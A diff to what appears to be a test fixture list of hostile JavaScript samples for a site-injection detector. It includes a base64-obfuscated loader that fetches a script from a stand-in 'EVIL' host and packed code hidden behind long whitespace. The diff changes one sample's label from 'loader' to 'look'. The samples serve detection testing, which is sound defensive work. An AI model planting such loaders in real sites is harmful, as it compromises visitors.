@@ -150,7 +150,7 @@ GUILTY = [
         ),
         "visitors",
     ),
-    (LOAD + f"var u=atob('{b64(EVIL + '/a.js')}');[u].map(function(v){{muat(v)}})", "loader"),
+    (LOAD + f"var u=atob('{b64(EVIL + '/a.js')}');[u].map(function(v){{muat(v)}})", "look"),
     # Behind a theme's own packed file, where no editor shows it.
     (pack("menu=function(){buka()}") + ";" + " " * 160 + TAIL, "loader"),
     # Where to is asked for once, and whoever clicks next goes there.
